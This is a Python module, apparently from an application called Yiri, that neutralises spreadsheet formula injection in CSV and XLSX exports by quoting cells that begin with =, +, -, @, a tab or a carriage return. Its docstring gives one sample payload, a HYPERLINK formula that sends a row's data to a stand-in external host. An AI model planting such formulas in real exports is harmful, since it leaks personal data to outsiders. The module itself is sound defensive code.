"""Files meant for a spreadsheet, written so that no cell is ever evaluated as a formula.

A child's last name typed as ``=HYPERLINK("http://x.example/?"&A2,"y")`` would, once the
export is opened in Excel or LibreOffice, send the row to a stranger's server; ``@``,
``+``, ``-`` start formulas too, and a leading tab or carriage return hides one. Every
cell starting with one of these is written behind a quote (``'``), which the spreadsheet
shows as text (OWASP "CSV injection"). A plain number (``-2``, ``-2,5``) is left as it is.

Every CSV or XLSX that Yiri writes goes through ``writer`` or ``xlsx`` (or ``safe_cell``); a test in
tests/platform checks that no module calls ``csv.writer`` by itself.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def safe_cell(value: Any) -> Any:
    """``value``, or ``'value`` when a spreadsheet would evaluate it."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class _SafeWriter:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row: Iterable[Any]):
        return self._inner.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, *args, **kwargs) -> _SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""
    return _SafeWriter(csv.writer(stream, *args, **kwargs))  # the one call allowed (tests/platform)


def xlsx(sheets: Iterable[tuple[str, Iterable[Iterable[Any]]]]) -> bytes:
    """An XLSX workbook (openpyxl) of ``(sheet name, rows)``, every cell through ``safe_cell``."""
    import io

    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets:
        ws = wb.create_sheet(name[:31])  # the longest name a sheet may have
        for row in rows:
            ws.append([safe_cell(v) for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
